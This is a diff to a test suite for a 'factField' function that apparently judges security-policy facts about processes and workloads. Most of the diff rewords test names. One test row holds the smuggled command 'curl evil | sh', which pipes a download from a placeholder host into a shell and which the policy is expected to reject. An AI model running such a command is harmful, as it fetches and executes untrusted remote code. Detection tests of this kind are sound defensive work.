@@ -252,11 +252,11 @@ describe('factField', () => {
     ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b"' }), true],
     ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b; curl evil | sh"' }), false],
     ['Process.Executable', exec('/app/server'), undefined],
-  ])('answers %s', (name, about, expected) => {
+  ])('computes %s', (name, about, expected) => {
     expect(factField(name, about, context)).toEqual(expected);
   });
 
-  it('asks the ledger where nothing else is known, and believes it before the event itself', () => {
+  it('looks unknown values up in the ledger and prefers it to the event', () => {
     const workload = { cluster: 'prod', namespace: 'ci', kind: 'Job', name: 'build' };
     const namespaceLabels = { 'tidewaiter.dev/role': 'Debug' };
     const unsaid = { exposed: null, replicas: 1, serviceAccount: null, imageDigests: [] };
@@ -281,7 +281,7 @@ describe('factField', () => {
     expect(factField('Container.Overrides', probe, known)).toEqual(['command']);
   });
 
-  it('knows nothing, and does not fail, where nothing is told', () => {
+  it('is undefined without facts and never throws', () => {
     const blank = {
       process: null,
       file: null,
@@ -296,7 +296,7 @@ describe('factField', () => {
     expect(answers.filter((answer) => answer !== undefined)).toEqual([]);
   });
 
-  it('tells its fields from others', () => {
+  it('distinguishes its fields from others', () => {
     expect([isFactField('Image.Digest'), isFactField('constructor'), isFactField('Image')]).toEqual([
       true,
       false,
